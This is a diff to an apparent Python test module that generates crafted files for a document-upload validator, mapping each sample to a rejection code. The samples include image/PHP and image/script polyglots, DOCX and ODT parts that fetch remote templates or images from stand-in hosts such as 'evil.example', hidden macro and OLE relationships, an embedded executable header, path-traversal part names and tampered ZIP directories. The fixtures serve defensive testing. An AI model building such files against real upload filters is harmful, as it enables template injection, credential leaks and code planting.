@@ -11,7 +11,6 @@ from collections.abc import Mapping
 from hub.files.media import MediaType
 
 PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
-JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 100 + b"\xff\xd9"
 
 
 def _chunk(name: bytes, body: bytes) -> bytes:
@@ -24,6 +23,25 @@ PNG = (
     + _chunk(b"IDAT", zlib.compress(b"\x00\x00"))
     + _chunk(b"IEND", b"")
 )
+
+
+Parts = Mapping[str, str | bytes]
+NOTHING: Parts = {}
+
+
+def segment(marker: int, body: bytes) -> bytes:
+    """A segment of a JPEG."""
+    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body
+
+
+def jpeg(more: bytes = b"", scan: bytes = b"\x12\xff\x00\x34\xff\xd0\x56") -> bytes:
+    """A grey picture of 8 x 8, with more segments at its head."""
+    tables = segment(0xDB, bytes(65)) + segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
+    codes = segment(0xC4, bytes(17)) + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + scan
+    return b"\xff\xd8" + segment(0xE0, b"JFIF\x00\x01\x01" + bytes(7)) + more + tables + codes + b"\xff\xd9"
+
+
+JPEG = jpeg()
 
 
 def archive(parts: Mapping[str, str | bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
@@ -42,14 +60,49 @@ def declaring(part: str, content_type: str) -> str:
     return f'<?xml version="1.0"?><Types xmlns="{namespace}">{override}</Types>'
 
 
-def office(part: str, kind: str, **more: str) -> bytes:
+def office(part: str, kind: str, more: Parts = NOTHING, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
     """A package whose main part is of the kind."""
-    return archive({"[Content_Types].xml": declaring(part, kind), part: "<x/>", **more})
+    return archive({"[Content_Types].xml": declaring(part, kind), part: "<x/>", **more}, packing)
 
 
-DOCX = office("word/document.xml", f"{MediaType.DOCX}.main+xml")
-XLSX = office("xl/workbook.xml", f"{MediaType.XLSX}.main+xml")
-ODT = archive({"mimetype": MediaType.ODT.value, "content.xml": "<x/>"})
+def docx(more: Parts = NOTHING) -> bytes:
+    """A DOCX with more parts."""
+    return office("word/document.xml", f"{MediaType.DOCX}.main+xml", more)
+
+
+def xlsx(more: Parts = NOTHING) -> bytes:
+    """An XLSX with more parts."""
+    return office("xl/workbook.xml", f"{MediaType.XLSX}.main+xml", more)
+
+
+def odt(content: str = "<x/>", more: Parts = NOTHING) -> bytes:
+    """An ODT with that content and more parts."""
+    return archive({"mimetype": MediaType.ODT.value, "content.xml": content, **more})
+
+
+def related(kind: str, target: str, mode: str = "External") -> str:
+    """What a part of a package refers to."""
+    package = "http://schemas.openxmlformats.org/package/2006/relationships"
+    document = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    one = f'<Relationship Id="a" Type="{document}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return f'<?xml version="1.0"?><Relationships xmlns="{package}">{one}</Relationships>'
+
+
+def opendocument(inner: str) -> str:
+    """The content of an ODT."""
+    names = {
+        name: f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("office", "text", "script")
+    }
+    names |= {"draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"}
+    names |= {"xlink": "http://www.w3.org/1999/xlink"}
+    declared = " ".join(f'xmlns:{name}="{address}"' for name, address in names.items())
+    return f"<office:document-content {declared}>{inner}</office:document-content>"
+
+
+RELS = "word/_rels/document.xml.rels"
+
+
+DOCX, XLSX, ODT = docx(), xlsx(), odt()
 
 GOOD: Mapping[MediaType, bytes] = {
     MediaType.PDF: PDF,
@@ -72,6 +125,23 @@ def locked(content: bytes) -> bytes:
     return content
 
 
+def counted(content: bytes, count: int) -> bytes:
+    """The archive, saying that it has so many parts."""
+    return content[:-14] + struct.pack("<2H", count, count) + content[-10:]
+
+
+def gapped() -> bytes:
+    """A DOCX whose table of contents begins later than its parts end."""
+    length, place = struct.unpack("<2L", DOCX[-10:-2])
+    hidden = b"MZ" + bytes(50)
+    end = DOCX[:-10] + struct.pack("<2L", length, place + len(hidden)) + DOCX[-2:]
+    return end[:place] + hidden + end[place:]
+
+
+ODD_NAMES = (
+    *("word/../../a.xml", "../a.xml", "/etc/a.xml", "C:/a.xml", "word\\a.xml", "word//a.xml", "word/./a.xml"),
+    *("word/a\n.xml", "WORD/DOCUMENT.XML"),
+)
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
 
 BAD: Mapping[str, tuple[bytes, str]] = {
@@ -86,9 +156,9 @@ BAD: Mapping[str, tuple[bytes, str]] = {
     "a ZIP of anything": (archive({"a.txt": "a"}), "UNKNOWN_TYPE"),
     "a presentation": (office("ppt/presentation.xml", "application/x.main+xml"), "UNKNOWN_TYPE"),
     "a DOCX that says XLSX": (office("word/document.xml", f"{MediaType.XLSX}.main+xml"), "UNKNOWN_TYPE"),
-    "a DOCX that may hold macros": (office("word/document.xml", MACROS), "UNKNOWN_TYPE"),
+    "a DOCX that may hold macros": (office("word/document.xml", MACROS), "HAS_MACROS"),
     "a DOCX with macros": (
-        office("word/document.xml", f"{MediaType.DOCX}.main+xml", **{"word/vbaProject.bin": "x"}),
+        office("word/document.xml", f"{MediaType.DOCX}.main+xml", {"word/vbaProject.bin": "x"}),
         "HAS_MACROS",
     ),
     "an ODT with macros": (
@@ -112,7 +182,10 @@ BAD: Mapping[str, tuple[bytes, str]] = {
         ),
         "BROKEN",
     ),
-    "a DOCX that is packed otherwise": (archive({"word/document.xml": ""}, zipfile.ZIP_LZMA), "BROKEN"),
+    "a DOCX that is packed otherwise": (
+        office("word/document.xml", f"{MediaType.DOCX}.main+xml", packing=zipfile.ZIP_LZMA),
+        "BROKEN",
+    ),
     "a DOCX with a password": (locked(DOCX), "ENCRYPTED"),
     "half a PDF": (PDF[:40], "BROKEN"),
     "half a PNG": (PNG[:-20], "BROKEN"),
@@ -126,7 +199,109 @@ BAD: Mapping[str, tuple[bytes, str]] = {
     "a JPEG that is a ZIP too": (JPEG[:-2] + archive({"a.txt": "a"}), "MIXED"),
     "a DOCX with more behind it": (DOCX + b"<script>", "BROKEN"),
     "a DOCX that unpacks to much": (
-        office("word/document.xml", f"{MediaType.DOCX}.main+xml", **{"word/zeros": "0" * 101_000_000}),
+        office("word/document.xml", f"{MediaType.DOCX}.main+xml", {"word/zeros.xml": "0" * 101_000_000}),
         "TOO_LARGE",
     ),
-}
+    "a PDF with a page behind it": (PDF + b"<html><script>", "MIXED"),
+    "a PDF with more behind it": (PDF + b"1 0 obj", "BROKEN"),
+    "a JPEG that is a PDF too": (jpeg(segment(0xFE, PDF)), "MIXED"),
+    "a JPEG that is a page too": (jpeg(segment(0xFE, b"<sCript>alert(1)</script>")), "MIXED"),
+    "a JPEG that is a program of a server too": (jpeg(segment(0xE1, b"<?php evil()")), "MIXED"),
+    "a JPEG with a ZIP within": (jpeg(segment(0xFE, archive({"a.txt": "a"}))), "MIXED"),
+    "a JPEG with more behind it": (JPEG + b"<script>\xff\xd9", "MIXED"),
+    "a JPEG with half of one behind it": (JPEG + JPEG[:60] + b"\xff\xd9", "BROKEN"),
+    "a JPEG of nothing but a head": (b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 100 + b"\xff\xd9", "BROKEN"),
+    "a JPEG without a picture": (b"\xff\xd8" + segment(0xFE, b"a" * 100) + b"\xff\xd9", "BROKEN"),
+    "a PNG that is a PDF too": (PNG[:33] + _chunk(b"tEXt", PDF) + PNG[33:], "MIXED"),
+    "a PNG that is a ZIP too": (PNG[:-12] + _chunk(b"zzZz", archive({"a.txt": "a"})) + PNG[-12:], "MIXED"),
+    "a DOCX that is a PDF too": (
+        office("word/document.xml", f"{MediaType.DOCX}.main+xml", {"word/a.xml": PDF}, zipfile.ZIP_STORED),
+        "MIXED",
+    ),
+    "a DOCX with something before it": (archive({"a.xml": ""})[:35] + DOCX, "MIXED"),
+    "a DOCX with something between its parts": (gapped(), "MIXED"),
+    "a DOCX with a program": (docx({"word/media/setup.exe": b"MZ"}), "HAS_MACROS"),
+    "a DOCX with ActiveX": (docx({"word/activeX/activeX1.xml": "<x/>"}), "HAS_MACROS"),
+    "a DOCX with macros under another name": (
+        docx({RELS: related("vbaProject", "harmless.xml", "Internal"), "word/harmless.xml": "x"}),
+        "HAS_MACROS",
+    ),
+    "a DOCX with an OLE object": (docx({"word/embeddings/oleObject1.bin": "x"}), "HAS_FILES"),
+    "a DOCX with an OLE object under another name": (
+        docx({RELS: related("oleObject", "harmless.xml", "Internal"), "word/harmless.xml": "x"}),
+        "HAS_FILES",
+    ),
+    "a DOCX with a workbook": (docx({"word/embeddings/Workbook.xlsx": XLSX}), "HAS_FILES"),
+    "a DOCX with a page": (docx({"word/part.mht": "x"}), "HAS_FILES"),
+    "an XLSX with something binary": (xlsx({"xl/a.bin": "x"}), "HAS_FILES"),
+    "a DOCX with a template from elsewhere": (
+        docx({"word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/a.dotm")}),
+        "FETCHES",
+    ),
+    "a DOCX with a template of another computer": (
+        docx({"word/_rels/settings.xml.rels": related("attachedTemplate", "file:///\\\\evil\\a.dotm")}),
+        "FETCHES",
+    ),
+    "a DOCX with a picture from elsewhere": (
+        docx({RELS: related("image", "//evil.example/a.png")}),
+        "FETCHES",
+    ),
+    "a DOCX with an address for a part": (
+        docx({RELS: related("image", "https://evil.example/a.png", "Internal")}),
+        "FETCHES",
+    ),
+    "an XLSX with another workbook": (
+        xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": related("externalLinkPath", "b.xlsx")}),
+        "FETCHES",
+    ),
+    "an XLSX with a connection": (
+        xlsx({"xl/_rels/workbook.xml.rels": related("connections", "connections.xml", "Internal")}),
+        "FETCHES",
+    ),
+    "a DOCX with references in another alphabet": (
+        docx({RELS: related("image", "//evil.example/a.png").encode("utf-16")}),
+        "FETCHES",
+    ),
+    "a DOCX with references with entities": (docx({RELS: '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "BROKEN"),
+    "an ODT with a picture from elsewhere": (
+        odt(opendocument('<draw:image xlink:href="https://evil.example/a.png"/>')),
+        "FETCHES",
+    ),
+    "an ODT with a file beside it": (odt(opendocument('<draw:image xlink:href="../a.png"/>')), "FETCHES"),
+    "an ODT with an event": (
+        odt(opendocument('<script:event-listener xlink:href="vnd.sun.star.script:a"/>')),
+        "HAS_MACROS",
+    ),
+    "an ODT with an OLE object": (odt(opendocument("<draw:object-ole/>")), "HAS_FILES"),
+    "an ODT with an OLE object as a part": (odt("<x/>", {"Object 1": b"\xd0\xcf\x11\xe0"}), "HAS_FILES"),
+    "an ODT with a part that fetches": (
+        odt(
+            "<x/>", {"Object 1/content.xml": opendocument('<draw:object xlink:href="http://evil.example"/>')}
+        ),
+        "FETCHES",
+    ),
+    "an ODT with a password": (
+        odt(
+            "\x01\x02",
+            {
+                "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:'
+                'xmlns:manifest:1.0">'
+                "<m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
+            },
+        ),
+        "ENCRYPTED",
+    ),
+    "an ODT that is wholly encrypted": (
+        archive({"mimetype": MediaType.ODT.value, "encrypted-package": "x"}),
+        "ENCRYPTED",
+    ),
+    "a DOCX of too many parts": (docx({f"word/{n}.xml": "" for n in range(5_000)}), "TOO_MANY_PARTS"),
+    "an ODT of too much text": (odt(opendocument("<text:a/>" * 1_200_000)), "TOO_LARGE"),
+    "a DOCX with too many references": (
+        docx({f"word/_rels/{n}.xml.rels": related("hyperlink", "#" * 6_000_000) for n in range(2)}),
+        "TOO_LARGE",
+    ),
+    "a DOCX that says that it has fewer parts": (counted(DOCX, 1), "BROKEN"),
+    "a DOCX that says that it has more parts": (counted(DOCX, 3), "BROKEN"),
+    "a DOCX that says that it is on two disks": (DOCX[:-18] + b"\x01\x00" + DOCX[-16:], "BROKEN"),
+} | {f"a DOCX with a part named {name!r}": (docx({name: "x"}), "BROKEN") for name in ODD_NAMES}
